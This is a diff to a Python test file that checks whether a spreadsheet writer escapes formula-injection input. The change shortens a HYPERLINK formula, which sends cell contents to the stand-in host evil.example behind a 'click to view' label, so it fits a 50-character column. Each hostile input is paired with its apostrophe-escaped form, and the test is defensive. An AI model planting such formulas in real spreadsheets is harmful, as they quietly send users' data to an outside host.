@@ -13,9 +13,10 @@ from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 
 # Each hostile text, as the writer must put it in the cell.
+# The first fits a 50-character name column (PostgreSQL enforces the length; SQLite does not).
 FORMULAS = {
-    '=HYPERLINK("http://evil.example/x?d="&R2&S2,"点击查看")': (
-        '\'=HYPERLINK("http://evil.example/x?d="&R2&S2,"点击查看")'
+    '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")': (
+        '\'=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'
     ),
     "+1+1": "'+1+1",
     "-1+1": "'-1+1",
